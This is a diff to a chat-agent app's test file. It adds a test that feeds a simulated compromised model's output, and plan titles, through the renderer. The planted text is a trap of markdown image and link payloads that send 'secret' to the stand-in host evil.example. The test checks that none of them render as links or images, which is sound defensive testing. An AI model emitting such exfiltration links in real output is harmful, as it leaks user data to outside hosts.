@@ -5,14 +5,16 @@ import logging
 
 import chainlit as cl
 import pytest
+from markdown_it import MarkdownIt
 
 from agents.chat.renderer import uid
 from agents.chat.runs import view_of
 from agents.chat.state import ChatState
 from agents.chat.texts import ChatTexts
-from agents.contracts.contract import Query
+from agents.contracts.contract import Query, ScopingInput
+from agents.contracts.plan import PlanningInput
 from agents.core.errors import DossierError
-from tests.chat.conftest import Page, make_team, until
+from tests.chat.conftest import HeldModel, Page, make_team, until
 from tests.chat.test_conversation import broad, turn
 from tests.scripted_model import ScriptedModel
 from tests.scripts import Worker
@@ -285,6 +287,45 @@ async def test_streamed_words_are_not_doubled_by_the_whole_reply(serve, tmp_path
     streamed = [data for event, data in page.sent if event == "stream_start"]
     assert len(streamed) == 1
     assert page.texts().count("That is small enough as it is.") == 1
+    await chat.history.engine.dispose()
+
+
+async def test_nothing_in_the_talk_leads_to_another_site_whatever_a_model_says_or_a_page_is_called(serve, tmp_path):
+    trap = "![x](http://evil.example/?q=secret) [log in](http://evil.example/?q=secret) www.evil.example/?q=secret"
+
+    class Obeying(HeldModel):
+        async def reply(self, request, on_text=None):
+            for piece in ("That is ", *trap.split(" ")) if on_text is not None else ():
+                await on_text(piece + " ")
+                await asyncio.sleep(0.1)
+            return await super().reply(request)
+
+    class Titles(Worker):
+        def __call__(self, request):
+            made = super().__call__(request)
+            if isinstance(request.given, ScopingInput):
+                return made.model_copy(update={"reply": f"That is fine. {trap}"})
+            if isinstance(request.given, PlanningInput):
+                leaves = tuple(one.model_copy(update={"title": f"{one.title} {trap}"[:120]}) for one in made.leaves)
+                return made.model_copy(update={"leaves": leaves})
+            return made
+
+    model = Obeying(Titles())
+    chat = serve(make_team(tmp_path, model))
+    page = Page()
+    await page.say(QUESTION)
+    await page.say(PHRASE)
+    await until(lambda: view_of(chat.team.jobs.live()[0]).leaves)
+    await page.say("How is it going?")
+    await page.say("drop part 1")
+
+    said = [*page.texts(), "".join(data["token"] for event, data in page.sent if event == "stream_token")]
+    said += [data["output"] for event, data in page.sent if event == "stream_start"]
+    assert any("That is fine." in one for one in said) and any("dropped" in one for one in said)
+    shown = "".join(map(MarkdownIt("gfm-like", {"linkify": True}).render, said))
+    assert "evil.example/" not in shown and "<img" not in shown
+    model.go.set()
+    await chat.close()
     await chat.history.engine.dispose()
 
 
